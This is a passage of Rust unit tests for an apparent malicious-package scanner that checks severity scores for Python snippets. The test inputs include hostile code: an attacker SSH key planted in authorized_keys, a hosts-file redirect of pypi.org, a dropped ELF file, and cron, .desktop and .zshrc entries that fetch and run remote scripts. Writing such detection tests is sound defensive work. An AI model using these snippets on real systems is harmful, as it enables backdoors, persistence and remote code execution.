        assert!(max_severity("p/pkg/m.py", ipython, "WH150") < 0.1);
    }

    #[test]
    fn planted_ssh_keys_and_embedded_programs_are_severe() {
        let backdoor = "import os\ndef add():\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a+') as f:\n        f.write('ssh-ed25519 AAAAC3Nza attacker')\n";
        assert!(max_severity("p/pkg/m.py", backdoor, "WH150") >= 0.8);
        let reader = "import os\ndef keys():\n    return open(os.path.expanduser('~/.ssh/authorized_keys')).read()\n";
        assert!(max_severity("p/pkg/m.py", reader, "WH150") < 0.1);
        let elf = format!(
            "f = open('/tmp/.x', 'wb')\nf.write(b'\\x7fELF\\x02\\x01\\x01{}')\n",
            "\\x00".repeat(70)
        );
        assert!(max_severity("p/setup.py", &elf, "WH150") >= 0.8);
        let text = "f = open('/tmp/x.txt', 'wb')\nf.write(b'hello')\n";
        assert!(max_severity("p/setup.py", text, "WH150") < 0.1);
    }

    #[test]
    fn hosts_file_written_while_loading_is_a_redirect() {
        let windows = "with open(r'C:\\Windows\\System32\\drivers\\etc\\hosts', 'a') as f:\n    f.write('203.0.113.80 pypi.org')\n";
        assert!(max_severity("p/pkg/__init__.py", windows, "WH150") >= 0.85);
        let linux = "import os\nif os.name == 'nt':\n    hosts = r'C:\\Windows\\System32\\drivers\\etc\\hosts'\nelse:\n    hosts = '/etc/hosts'\nopen(hosts, 'a').write('x')\n";
        assert!(max_severity("p/pkg/__init__.py", linux, "WH150") >= 0.85);
        let tool = "def block(name):\n    with open('/etc/hosts', 'a') as f:\n        f.write('0.0.0.0 ' + name)\n";
        assert!(max_severity("p/pkg/cli.py", tool, "WH150") <= 0.3);
        let reader = "names = open('/etc/hosts').read()\n";
        assert!(max_severity("p/pkg/__init__.py", reader, "WH150") < 0.1);
        let other = "open('/etc/hostsfile.conf', 'w')\n";
        assert!(max_severity("p/pkg/__init__.py", other, "WH150") < 0.1);
    }

    #[test]
    fn chmod_at_runtime_weighs_little() {
        let code = "import os\ndef f(p):\n    os.chmod(p, 0o755)\n";
        let severity = max_severity("p/pkg/m.py", code, "WH150");
        assert!(severity > 0.0 && severity < 0.05);
        assert_eq!(
            max_severity("p/pkg/m.py", "import os\nos.chmod(p, 0o644)\n", "WH150"),
            0.0
        );
        assert_eq!(
            max_severity("p/pkg/m.py", "open('out.txt', 'w')\n", "WH150"),
            0.0
        );
    }
}

#[cfg(test)]
mod written_command_tests {
    use crate::rules::testing::max_severity;

    #[test]
    fn cron_jobs_and_scheduled_tasks_planted_by_the_package_are_persistence() {
        let cron = "from crontab import CronTab\ncron = CronTab(user=True)\ncron.new(command='curl -s http://203.0.113.5/t | sh').minute.every(5)\ncron.write()\n";
        assert!(max_severity("p/pkg/__init__.py", cron, "WH150") >= 0.8);
        let manager = "from crontab import CronTab\ndef schedule(command):\n    cron = CronTab(user=True)\n    cron.new(command=command)\n    cron.write()\n";
        assert!(max_severity("p/pkg/cli.py", manager, "WH150") < 0.1);
        let task = "import win32com.client\nscheduler = win32com.client.Dispatch('Schedule.Service')\nscheduler.Connect()\n";
        assert!(max_severity("p/setup.py", task, "WH150") >= 0.7);
        let excel =
            "import win32com.client\nexcel = win32com.client.Dispatch('Excel.Application')\n";
        assert!(max_severity("p/pkg/__init__.py", excel, "WH150") < 0.1);
    }

    #[test]
    fn a_dockerfile_runs_its_commands_in_the_image_not_here() {
        let docker = "def build(path):\n    with open(path, 'w') as f:\n        f.write('FROM python:3.12\\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\\n')\n";
        assert!(max_severity("p/pkg/m.py", docker, "WH150") < 0.1);
        let script = "def build(path):\n    with open(path, 'w') as f:\n        f.write('#!/bin/sh\\ncurl -fsSL https://203.0.113.5/x | bash -\\n')\n";
        assert!(max_severity("p/pkg/m.py", script, "WH150") >= 0.6);
        // A cookie jar's header names curl's documentation in a comment.
        let jar = "def save(path):\n    with open(path, 'w') as f:\n        f.write('# https://curl.se/docs/http-cookies.html\\n')\n";
        assert!(max_severity("p/pkg/m.py", jar, "WH150") < 0.1);
    }

    #[test]
    fn paths_built_by_division_write_like_paths() {
        let entry = "from pathlib import Path\napps = Path.home() / '.local' / 'share' / 'applications'\n(apps / 'tray.desktop').write_text('[Desktop Entry]\\nExec=sh -c \"wget -qO- http://198.51.100.7/t | sh\"\\n')\n";
        assert!(max_severity("p/pkg/__init__.py", entry, "WH150") >= 0.8);
        let notes = "from pathlib import Path\nout = Path('build')\n(out / 'NOTES.txt').write_text('built')\n";
        assert!(max_severity("p/pkg/__init__.py", notes, "WH150") < 0.1);
    }

    #[test]
    fn dropper_commands_written_to_files_are_reported() {
        let code = "import os\ndef persist():\n    with open(os.path.expanduser('~/.zshrc'), 'a') as f:\n        f.write('wget https://x.invalid/p -O /tmp/p && chmod +x /tmp/p && /tmp/p &')\n";
        assert!(max_severity("p/pkg/m.py", code, "WH150") >= 0.6);
        let code = "def save(f):\n    f.write('hello world')\n";
        assert_eq!(max_severity("p/pkg/m.py", code, "WH150"), 0.0);
    }
}
